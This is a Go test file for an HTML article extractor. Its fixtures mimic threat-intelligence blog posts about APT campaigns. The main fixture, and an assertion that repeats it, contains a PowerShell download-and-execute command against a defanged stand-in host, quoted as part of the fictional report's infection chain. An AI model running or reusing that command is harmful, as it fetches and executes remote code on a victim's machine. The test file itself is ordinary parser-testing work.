package document

import (
	"context"
	"fmt"
	"strings"
	"testing"
	"time"
)

// articlePage is a vendor blog post as they come: navigation, a cookie
// banner, a newsletter box, the article (lists, an IOC table whose cells
// are links, a <pre> block), related posts, comments and a footer.
const articlePage = `<!DOCTYPE html>
<html lang="en-GB">
<head>
<meta charset="utf-8">
<title>Ember Bear returns with new loader | Example Threat Labs</title>
<meta property="og:title" content="Ember Bear returns with a new loader">
<meta property="og:site_name" content="Example Threat Labs">
<meta name="author" content="Jane Analyst">
<meta property="article:published_time" content="2024-03-05T09:30:00Z">
<style>.hidden{display:none}</style>
<script>var tracking = "Tracking script text must not appear.";</script>
</head>
<body>
<div id="cookie-banner" class="cookie-consent">We use cookies to improve your browsing experience. <a href="/privacy">Read our cookie policy</a> <button>Accept all cookies</button></div>
<header class="site-header">
  <a href="/" class="logo">Example Threat Labs</a>
  <nav><ul><li><a href="/research">Research</a></li><li><a href="/products">Products</a></li><li><a href="/contact">Contact sales today</a></li></ul></nav>
</header>
<div class="newsletter-box">Subscribe to our newsletter for weekly threat briefings delivered to your inbox.</div>
<main>
<article>
<h1>Ember Bear returns with a new loader</h1>
<p class="byline">By Jane Analyst</p>
<p>Ember Bear has resumed operations against energy companies in Eastern Europe. The group delivered a previously unknown loader we call SmokeRing through spear-phishing emails.</p>
<p>The campaign began in January 2024 and is still active. We attribute it to Ember Bear with moderate confidence.</p>
<h2>Infection chain</h2>
<p>The lure is a password-protected archive that contains a shortcut file. Opening the shortcut runs PowerShell, which downloads the loader from a compromised WordPress site.</p>
<ul>
<li>The shortcut file masquerades as an invoice.</li>
<li>PowerShell fetches the second stage over HTTPS.</li>
<li>The loader injects into a legitimate process.</li>
</ul>
<p>The PowerShell command line is shown below.</p>
<pre>powershell.exe -nop -w hidden -c
  IEX (New-Object Net.WebClient).DownloadString('hxxps://cdn-update[.]com/a.ps1')
exit</pre>
<h2>Indicators of compromise</h2>
<p>The following indicators were observed during the investigation.</p>
<table>
<tr><td><a href="https://www.virustotal.com/gui/file/5ac1612535b6981259cfac95efe84c5608cf51e3a49b9c1e00c5d374f90d10b2">5ac1612535b6981259cfac95efe84c5608cf51e3a49b9c1e00c5d374f90d10b2</a></td><td>SmokeRing loader</td></tr>
<tr><td><a href="https://www.virustotal.com/gui/domain/cdn-update.com">cdn-update[.]com</a></td><td>Download server</td></tr>
<tr><td><a href="https://www.virustotal.com/gui/ip-address/203.0.113.7">203.0.113[.]7</a></td><td>C2 server</td></tr>
</table>
<p>Defenders should block these indicators and hunt for the shortcut file on endpoints.</p>
<div class="share-buttons"><a href="#">Share on Twitter</a> <a href="#">Share on LinkedIn</a></div>
</article>
<section class="related-posts">
<h3>Related articles</h3>
<ul>
<li><a href="/a">Sandworm hits another grid operator</a></li>
<li><a href="/b">Inside the latest ransomware cartel</a></li>
</ul>
</section>
<section id="comments">
<h3>2 comments</h3>
<div class="comment"><p>Great write-up, thanks for sharing these details with the community!</p></div>
<div class="comment"><p>Do you have YARA rules for the loader as well?</p></div>
</section>
</main>
<aside><p>Download our annual threat report for the full picture of the threat landscape.</p></aside>
<footer class="site-footer"><p>© 2024 Example Threat Labs. All rights reserved.</p><a href="/privacy">Privacy policy</a></footer>
<div style="display:none">Hidden tracking pixel text should never be read.</div>
</body>
</html>`

var articleSentences = []string{
	"Ember Bear has resumed operations against energy companies in Eastern Europe.",
	"The group delivered a previously unknown loader we call SmokeRing through spear-phishing emails.",
	"The campaign began in January 2024 and is still active.",
	"We attribute it to Ember Bear with moderate confidence.",
	"Infection chain",
	"The lure is a password-protected archive that contains a shortcut file.",
	"Opening the shortcut runs PowerShell, which downloads the loader from a compromised WordPress site.",
	"The shortcut file masquerades as an invoice.",
	"PowerShell fetches the second stage over HTTPS.",
	"The loader injects into a legitimate process.",
	"The PowerShell command line is shown below.",
	"Indicators of compromise",
	"The following indicators were observed during the investigation.",
	"5ac1612535b6981259cfac95efe84c5608cf51e3a49b9c1e00c5d374f90d10b2 | SmokeRing loader",
	"cdn-update[.]com | Download server",
	"203.0.113[.]7 | C2 server",
	"Defenders should block these indicators and hunt for the shortcut file on endpoints.",
}

var boilerplateSentences = []string{
	"We use cookies", "cookie policy", "Accept all cookies",
	"Research", "Products", "Contact sales today",
	"Subscribe to our newsletter",
	"Share on Twitter", "Share on LinkedIn",
	"Related articles", "Sandworm hits another grid operator", "Inside the latest ransomware cartel",
	"2 comments", "Great write-up", "YARA rules",
	"Download our annual threat report",
	"All rights reserved", "Privacy policy",
	"Hidden tracking pixel", "Tracking script", "display:none",
}

func readHTMLString(t *testing.T, page string, opt Options) *extracted {
	t.Helper()
	ex, err := readHTML(context.Background(), []byte(page), opt)
	if err != nil {
		t.Fatal(err)
	}
	if len(ex.pages) != 1 {
		t.Fatalf("%d pages, want 1", len(ex.pages))
	}
	return ex
}

func assertContainsAll(t *testing.T, text string, want []string) {
	t.Helper()
	for _, s := range want {
		if !strings.Contains(text, s) {
			t.Errorf("missing %q", s)
		}
	}
}

func assertContainsNone(t *testing.T, text string, unwanted []string) {
	t.Helper()
	for _, s := range unwanted {
		if strings.Contains(text, s) {
			t.Errorf("boilerplate leaked: %q", s)
		}
	}
}

func TestHTMLArticleMainContent(t *testing.T) {
	ex := readHTMLString(t, articlePage, Options{})
	text := ex.pages[0]
	t.Logf("engine %s, warnings %q\n%s", ex.engine, ex.warnings, text)
	if ex.engine != "readability" {
		t.Errorf("engine %q, want readability", ex.engine)
	}
	assertContainsAll(t, text, articleSentences)
	assertContainsNone(t, text, boilerplateSentences)

	// Blocks are separated by a blank line, never glued or run together.
	for _, pair := range [][2]string{
		{"Infection chain", "The lure is"},
		{"shortcut file.", "Opening the shortcut"}, // same paragraph: one space
		{"masquerades as an invoice.", "PowerShell fetches"},
		{"legitimate process.", "The PowerShell command"},
		{"SmokeRing loader", "cdn-update[.]com | Download"},
	} {
		i := strings.Index(text, pair[0])
		j := strings.Index(text, pair[1])
		if i < 0 || j < 0 {
			continue // reported above
		}
		between := text[i+len(pair[0]) : j]
		want := "\n\n"
		switch pair[0] {
		case "shortcut file.":
			want = " "
		case "masquerades as an invoice.": // two items of one list
			want = "\n- "
		}
		if between != want {
			t.Errorf("between %q and %q: %q, want %q", pair[0], pair[1], between, want)
		}
	}
	// <pre> keeps its lines and indentation.
	pre := "powershell.exe -nop -w hidden -c\n  IEX (New-Object Net.WebClient).DownloadString('hxxps://cdn-update[.]com/a.ps1')\nexit"
	if !strings.Contains(text, "\n\n"+pre+"\n\n") {
		t.Errorf("pre block not kept verbatim as its own block")
	}
}

func TestHTMLArticleMetadata(t *testing.T) {
	ex := readHTMLString(t, articlePage, Options{})
	if ex.title != "Ember Bear returns with a new loader" {
		t.Errorf("title %q", ex.title)
	}
	if ex.author != "Jane Analyst" {
		t.Errorf("author %q", ex.author)
	}
	if ex.site != "Example Threat Labs" {
		t.Errorf("site %q", ex.site)
	}
	if ex.lang != "en-GB" {
		t.Errorf("lang %q", ex.lang)
	}
	want := time.Date(2024, 3, 5, 9, 30, 0, 0, time.UTC)
	if ex.pub == nil || !ex.pub.Equal(want) {
		t.Errorf("published %v, want %v", ex.pub, want)
	}
}

// Microdata and <time> give the date and author when there are no meta
// tags, as on Blogger and many WordPress themes.
func TestHTMLMicrodataMetadata(t *testing.T) {
	page := `<html><head><title>Blog: Turla keeps evolving</title>
<link rel="canonical" href="https://www.blog.example.org/2021/turla.html"></head><body>
<div class="post">
<h3 class="post-title">Turla keeps evolving</h3>
<div class="post-body">` + strings.Repeat(`<p>Turla has updated its Kazuar backdoor with new plugins and a new configuration format, which we describe in this post in detail.</p>`, 6) + `</div>
<div class="post-footer"><span class="post-author">Posted by <span itemprop="author"><span itemprop="name">Ann Researcher</span></span></span>
at <abbr itemprop="datePublished" title="2021-09-14T10:00:00-07:00">10:00 AM</abbr></div>
</div></body></html>`
	ex := readHTMLString(t, page, Options{})
	if ex.author != "Ann Researcher" {
		t.Errorf("author %q", ex.author)
	}
	if ex.site != "blog.example.org" {
		t.Errorf("site %q", ex.site)
	}
	want := time.Date(2021, 9, 14, 17, 0, 0, 0, time.UTC)
	if ex.pub == nil || !ex.pub.Equal(want) {
		t.Errorf("published %v, want %v", ex.pub, want)
	}
	if strings.Contains(ex.pages[0], "Posted by") {
		t.Errorf("post footer leaked:\n%s", ex.pages[0])
	}
}

// List items come out as bullet lines, as a text or Markdown report writes
// them, so that the sentence splitter and the relation rules' list reading
// (an intro ending in ":" and its items) treat an HTML list the same way.
// A nested list goes on under its item; an empty item leaves no mark; a
// paragraph inside an item stays on the item's line.
func TestHTMLLists(t *testing.T) {
	page := `<html><head><title>Lists</title></head><body><article>
<h1>APT99 toolset</h1>
<p>APT99 relies on a small set of tools that we have tracked since 2019, and the list below names them for defenders:</p>
<ol>
<li>PlugX, a modular remote access trojan.</li>
<li>ShadowPad, sold privately among several groups.
  <ul><li>Variant A uses DNS tunnelling.</li><li>Variant B uses HTTPS.</li></ul>
</li>
<li> </li>
<li><p>Cobalt Strike, a commercial red-team framework.</p></li>
</ol>
<p>Each tool is described below in its own section of this report for defenders to read.</p>
<dl><dt>PlugX</dt><dd>Loaded by DLL side-loading.</dd></dl>
</article></body></html>`
	text := readHTMLString(t, page, Options{}).pages[0]
	want := "names them for defenders:\n\n- PlugX, a modular remote access trojan.\n- ShadowPad, sold privately among several groups.\n- Variant A uses DNS tunnelling.\n- Variant B uses HTTPS.\n- Cobalt Strike, a commercial red-team framework.\n\nEach tool"
	if !strings.Contains(text, want) {
		t.Errorf("list items not bullet lines:\n%s", text)
	}
	if !strings.Contains(text, "PlugX\n\nLoaded by DLL side-loading.") {
		t.Errorf("definition list not split:\n%s", text)
	}
}

// Entities are decoded; <br> is a line break; inline elements do not
// break words; hidden and script content is skipped.
func TestHTMLInlineText(t *testing.T) {
	page := `<html><body><div>
<p>AT&amp;T and R&amp;D teams saw &lt;script&gt; tags&nbsp;in the mail, &#8220;quoted&#8221; &mdash; twice.</p>
<p>First line<br>second line<br><br>new paragraph</p>
<p>Sand<b>worm</b> and <span>Fancy</span> <i>Bear</i>.</p>
<p hidden>hidden attribute text</p><p aria-hidden="true">aria hidden text</p>
<noscript>Enable JavaScript to continue.</noscript>
<template><p>template text</p></template>
<svg><text>svg text</text></svg>
</div></body></html>`
	text := readHTMLString(t, page, Options{}).pages[0]
	assertContainsAll(t, text, []string{
		"AT&T and R&D teams saw <script> tags in the mail, “quoted” — twice.",
		"First line\nsecond line\n\nnew paragraph",
		"Sandworm and Fancy Bear.",
	})
	assertContainsNone(t, text, []string{"hidden attribute", "aria hidden", "JavaScript", "template text", "svg text"})
}

// A page readability cannot make an article of goes to the fallback
// walker, which still drops navigation, banners and footers, and says so.
func TestHTMLFallbackWalker(t *testing.T) {
	page := `<html><body>
<div role="navigation"><a href="/">Home</a> <a href="/blog">Blog</a></div>
<div class="gdpr-banner">This site uses cookies for analytics.</div>
<main><p>IOC update: 198.51.100.23 is a Kimsuky C2.</p></main>
<div id="site-footer">Copyright Example Corp.</div>
</body></html>`
	ex := readHTMLString(t, page, Options{})
	text := ex.pages[0]
	if !strings.Contains(text, "IOC update: 198.51.100.23 is a Kimsuky C2.") {
		t.Errorf("content lost:\n%s", text)
	}
	assertContainsNone(t, text, []string{"Home", "Blog", "cookies", "Copyright"})
	if ex.engine == "boilerplate" && !hasWarning(ex.warnings, "boilerplate-stripping walker") {
		t.Errorf("fallback used without a warning: %q", ex.warnings)
	}
}

// When readability picks a fragment (here: the comment thread outweighs a
// short post split into two sections), the walker takes over.
func TestHTMLFallbackOnTooLittle(t *testing.T) {
	long := strings.Repeat("The operators reused infrastructure from earlier campaigns, and the same certificate appears on both servers. ", 8)
	page := `<html><body><main>
<section><p>` + long + `</p></section>
<section><p>` + strings.ReplaceAll(long, "operators", "attackers") + `</p></section>
<section><p>` + strings.ReplaceAll(long, "operators", "intruders") + `</p></section>
</main></body></html>`
	ex := readHTMLString(t, page, Options{})
	for _, w := range []string{"The operators reused", "The attackers reused", "The intruders reused"} {
		if !strings.Contains(ex.pages[0], w) {
			t.Errorf("section starting %q lost (engine %s, warnings %q)", w, ex.engine, ex.warnings)
		}
	}
}

func hasWarning(ws []string, sub string) bool {
	for _, w := range ws {
		if strings.Contains(w, sub) {
			return true
		}
	}
	return false
}

// Data tables print a row per paragraph with separated cells; layout
// tables that wrap paragraphs print as paragraphs.
func TestHTMLTables(t *testing.T) {
	page := `<html><body><article>
<p>The table lists hashes and the malware family each one belongs to, as seen in our telemetry this quarter.</p>
<table><thead><tr><th>SHA-256</th><th>Family</th></tr></thead><tbody>
<tr><td><p>e4081eb7f47d76c57bbbe36456eaa4108f488ead5022630ad9b383e84129ffa9</p></td><td>More_eggs</td></tr>
<tr><td>bebd4cd9aece49fbe6e7024e239638004358ff87d02f9bd4328993409da9e17c</td><td></td><td>Cobalt<br>Strike</td></tr>
</tbody></table>
<table><tr><td><h2>Layout heading</h2><p>Layout paragraph one is long enough to be a real paragraph of text.</p><p>Layout paragraph two follows it.</p></td></tr></table>
</article></body></html>`
	text := readHTMLString(t, page, Options{}).pages[0]
	t.Logf("%s", text)
	assertContainsAll(t, text, []string{
		"SHA-256 | Family\n\ne4081eb7f47d76c57bbbe36456eaa4108f488ead5022630ad9b383e84129ffa9 | More_eggs\n\nbebd4cd9aece49fbe6e7024e239638004358ff87d02f9bd4328993409da9e17c | Cobalt Strike",
		"Layout heading\n\nLayout paragraph one is long enough to be a real paragraph of text.\n\nLayout paragraph two follows it.",
	})
}

// Deep nesting must neither crash (a stack overflow is fatal in Go) nor
// lose the text.
func TestHTMLDeepNesting(t *testing.T) {
	const depth = 20000
	page := "<html><body>" + strings.Repeat("<div>", depth) + "deep text here" + strings.Repeat("</div>", depth) + "</body></html>"
	ex := readHTMLString(t, page, Options{})
	if !strings.Contains(ex.pages[0], "deep text here") {
		t.Errorf("deep text lost: %q", ex.pages[0])
	}
	if !hasWarning(ex.warnings, "tag by tag") {
		t.Errorf("no warning about the parser giving up: %q", ex.warnings)
	}
	// Below the parser's limit the tree reader handles it.
	page = "<html><body><p>Lead paragraph.</p>" + strings.Repeat("<div>", 400) + "<p>Nested text.</p>" + strings.Repeat("</div>", 400) + "</body></html>"
	ex = readHTMLString(t, page, Options{})
	if !strings.Contains(ex.pages[0], "Lead paragraph.\n\nNested text.") {
		t.Errorf("nested page: %q (engine %s)", ex.pages[0], ex.engine)
	}
}

func TestHTMLEmptyPage(t *testing.T) {
	ex := readHTMLString(t, "<html><head><title>Nothing</title></head><body><nav><a href='/'>Home</a></nav></body></html>", Options{})
	if strings.TrimSpace(ex.pages[0]) != "" {
		t.Errorf("text %q, want empty", ex.pages[0])
	}
	if !hasWarning(ex.warnings, "no visible text") {
		t.Errorf("no warning for an empty page: %q", ex.warnings)
	}
	if ex.title != "Nothing" {
		t.Errorf("title %q", ex.title)
	}
}

func TestHTMLCancelled(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := readHTML(ctx, []byte(articlePage), Options{}); err == nil {
		t.Error("cancelled context: no error")
	}
}

func BenchmarkReadHTML(b *testing.B) {
	page := []byte(strings.Replace(articlePage, "<h2>Infection chain</h2>",
		strings.Repeat("<p>Filler paragraph about the threat actor and its many tools, repeated for size.</p>\n", 400)+"<h2>Infection chain</h2>", 1))
	b.SetBytes(int64(len(page)))
	for b.Loop() {
		if _, err := readHTML(context.Background(), page, Options{}); err != nil {
			b.Fatal(err)
		}
	}
}

func FuzzReadHTML(f *testing.F) {
	f.Add([]byte(articlePage))
	f.Add([]byte("<html><body><table><tr><td><pre>a\nb</pre></td></tr></table></body></html>"))
	f.Add([]byte("<p>unclosed <b><i>tags<table><td>x"))
	f.Add([]byte("<meta charset=shift_jis><p>\x82\xa0\x82\xa2</p>"))
	f.Add([]byte("\xff\xfe<\x00p\x00>\x00h\x00i\x00"))
	f.Add([]byte(`<html><head><script type="application/ld+json">{"@type":"Article","datePublished":"x","author":[{"name":1}]}</script></head><body><article><p>x</p></article></body></html>`))
	f.Fuzz(func(t *testing.T, raw []byte) {
		ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
		defer cancel()
		ex, err := readHTML(ctx, raw, Options{ContentType: "text/html"})
		if err != nil {
			if ctx.Err() != nil {
				return
			}
			t.Fatalf("error on input: %v", err)
		}
		if len(ex.pages) != 1 {
			t.Fatalf("%d pages", len(ex.pages))
		}
		if s := ex.pages[0]; strings.HasPrefix(s, "\n") || strings.HasSuffix(s, "\n") {
			t.Fatalf("text starts or ends with a break: %q", s)
		}
		_ = fmt.Sprint(ex.pub)
	})
}

func TestWithHeadline(t *testing.T) {
	body := "Federal prosecutors charged twelve people.\n\nMore text."
	got := withHeadline(body, "Twelve Charged in Hacking Scheme", "By Ada Byron")
	want := "Twelve Charged in Hacking Scheme\n\nBy Ada Byron\n\n" + body
	if got != want {
		t.Errorf("headline and byline not prepended:\n%q\nwant\n%q", got, want)
	}
	// Already in the article text: nothing is repeated.
	inBody := "Twelve Charged in Hacking Scheme\n\nBy Ada Byron · May 2\n\n" + body
	if got := withHeadline(inBody, "Twelve  Charged in Hacking Scheme", "Ada Byron"); got != inBody {
		t.Errorf("headline repeated: %q", got)
	}
	if got := withHeadline("  ", "Title", ""); got != "  " {
		t.Errorf("empty page got a headline: %q", got)
	}
}

// A block of teasers for other stories inside the article, marked by two
// neighbouring class words ("more-stories"), is furniture; either word
// alone ("box--more-info") is not.
func TestHTMLTeaserPairs(t *testing.T) {
	page := `<!DOCTYPE html><html><head><title>Quill Falcon returns</title></head><body>
<main><article>
<h1>Quill Falcon returns with a new implant</h1>
<p>The espionage crew known as Quill Falcon exploited a flaw in a mail server this year to attack a defence firm in Turkey, researchers said on Tuesday.</p>
<p>The final payload was a custom implant the vendor calls Tarn Agent, built on an open-source command-and-control framework.</p>
<div class="box--more-info"><p>The vendor first described the crew in 2019, after it spied on journalists and activists in the region.</p></div>
<section class="more-stories"><h3>More from Tech</h3><ul>
<li><a href="/a">Court orders Kestrel Group to pay damages to a messaging company</a></li>
<li><a href="/b">Italy admits using Wrenfield spyware against reporters</a></li>
</ul></section>
<div class="readNext"><a href="/c">Regulators fine Harrow Labs over Pike spyware sales</a></div>
</article></main></body></html>`
	ex := readHTMLString(t, page, Options{})
	text := ex.pages[0]
	assertContainsAll(t, text, []string{"Tarn Agent", "after it spied on journalists"})
	assertContainsNone(t, text, []string{"Kestrel Group", "Wrenfield", "Harrow Labs"})
}
